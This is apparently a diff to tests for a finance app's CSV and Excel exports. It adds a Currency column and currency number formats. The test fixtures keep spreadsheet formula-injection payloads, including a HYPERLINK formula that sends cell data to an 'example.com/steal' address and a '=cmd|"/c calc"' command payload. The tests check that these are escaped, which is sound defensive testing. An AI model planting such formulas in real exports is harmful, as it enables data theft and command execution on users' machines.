@@ -80,9 +80,11 @@ describe.each(testEngines())('exports on %s', (engine) => {
     const sheet = workbook.worksheets[0];
     const rows: unknown[][] = [];
     sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
-    expect(rows[0]).toEqual(['Date', 'Description', 'Category', 'Subcategory', 'Type', 'Amount']);
+    expect(rows[0]).toEqual(['Date', 'Description', 'Category', 'Subcategory', 'Type', 'Amount', 'Currency']);
     expect(rows).toHaveLength(6);
-    expect(rows[1]).toEqual([new Date('2025-02-05T00:00:00Z'), 'Crème brûlée', 'Food', 'Café', 'Expense', -7]);
+    expect(rows[1]).toEqual([new Date('2025-02-05T00:00:00Z'), 'Crème brûlée', 'Food', 'Café', 'Expense', -7, 'USD']);
+    // The amount is a number shown as money in the user's currency (US dollars until they have a home currency).
+    expect(sheet.getRow(2).getCell(6).numFmt).toBe('"$"#,##0.00;-"$"#,##0.00');
     const linkRow = sheet.getRow(rows.findIndex((row) => row[2] === HYPERLINK) + 1);
     expect(linkRow.getCell(3).type).toBe(ExcelJS.ValueType.String);
     expect(linkRow.getCell(3).formula).toBeUndefined();
@@ -107,12 +109,12 @@ describe.each(testEngines())('exports on %s', (engine) => {
     expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const lines = csvLines(body.subarray(3));
     expect(lines).toEqual([
-      'Date,Description,Category,Subcategory,Type,Amount',
-      '2025-02-05,Crème brûlée,Food,Café,Expense,-7',
-      "2025-02-04,'-2+3,Food,Groceries,Expense,-10.25",
-      "2025-02-03,'+1 call me,Food,Groceries,Expense,-60",
-      `2025-01-09,'@SUM(1+1),"'=HYPERLINK(""http://example.com/steal?x=""&A1,""Click"")",Links,Expense,-40.5`,
-      '2025-01-03,"Payroll, ""ACME""",Income,Salary,Income,2000',
+      'Date,Description,Category,Subcategory,Type,Amount,Currency',
+      '2025-02-05,Crème brûlée,Food,Café,Expense,-7,USD',
+      "2025-02-04,'-2+3,Food,Groceries,Expense,-10.25,USD",
+      "2025-02-03,'+1 call me,Food,Groceries,Expense,-60,USD",
+      `2025-01-09,'@SUM(1+1),"'=HYPERLINK(""http://example.com/steal?x=""&A1,""Click"")",Links,Expense,-40.5,USD`,
+      '2025-01-03,"Payroll, ""ACME""",Income,Salary,Income,2000,USD',
     ]);
 
     const food = csvLines((await download(client, '/export/transactions.csv?category=Food&from=2025-02-04')).body as Buffer);
@@ -140,6 +142,7 @@ describe.each(testEngines())('exports on %s', (engine) => {
       food.total,
       food.percent_of_income,
       food.average_per_period,
+      'USD',
     ]);
     expect(rows.find((row) => row[0] === 'Expense' && row[1] === 'Total')?.slice(3, 6)).toEqual([
       analysis.period_data.LY.total_expenses,
@@ -171,13 +174,37 @@ describe.each(testEngines())('exports on %s', (engine) => {
 
     const goals = csvLines(((await download(client, '/export/goals.csv')).body as Buffer).subarray(3));
     expect(goals[0]).toBe(
-      'Name,Category,Current amount,Target amount,Target date,Contribution,Frequency,Interest rate,On track,Projected completion',
+      'Name,Category,Current amount,Target amount,Target date,Contribution,Frequency,Interest rate,On track,Projected completion,Currency',
     );
     expect(goals).toHaveLength(2);
     expect(goals[1]).toMatch(/^"'=cmd\|""\/c calc""!A1",emergency,100,1000,2025-12-14,100,monthly,0,/);
 
     const networth = csvLines(((await download(client, '/export/networth.csv')).body as Buffer).subarray(3));
-    expect(networth).toEqual(['Date,Type,Category,Name,Value', "2025-01-01,asset,Cash,'@evil,1234.5"]);
+    expect(networth).toEqual(['Date,Type,Category,Name,Value,Currency', "2025-01-01,asset,Cash,'@evil,1234.5,USD"]);
+  });
+
+  it('writes every amount in the home currency: a Currency column in CSV, the currency’s format in .xlsx', async () => {
+    const client = await userWithLog();
+    expect((await client.put('/account/home-currency', { home_currency: 'CHF' })).status).toBe(200);
+    const csv = csvLines(((await download(client, '/export/transactions.csv')).body as Buffer).subarray(3));
+    expect(csv[1]).toBe('2025-02-05,Crème brûlée,Food,Café,Expense,-7,CHF');
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await download(client, '/export/transactions.xlsx')).body);
+    const amount = workbook.worksheets[0].getRow(2).getCell(6);
+    expect(amount.value).toBe(-7);
+    expect(amount.numFmt).toBe('"CHF "#,##0.00;-"CHF "#,##0.00');
+
+    const spending = new ExcelJS.Workbook();
+    await spending.xlsx.load((await download(client, '/export/spending.xlsx')).body);
+    const total = spending.worksheets[0].getRow(2);
+    expect(total.getCell(4).numFmt).toBe('"CHF "#,##0.00;-"CHF "#,##0.00');
+    expect(total.getCell(9).value).toBe('CHF');
+
+    await client.put('/networth/api/networth/init-categories');
+    await client.post('/networth/api/networth/entries', { type: 'asset', category: 'Cash', name: 'Konto', value: 10, date: '2025-01-01' });
+    const networth = csvLines(((await download(client, '/export/networth.csv')).body as Buffer).subarray(3));
+    expect(networth[1]).toBe('2025-01-01,asset,Cash,Konto,10,CHF');
   });
 
   it('refuses a visitor', async () => {
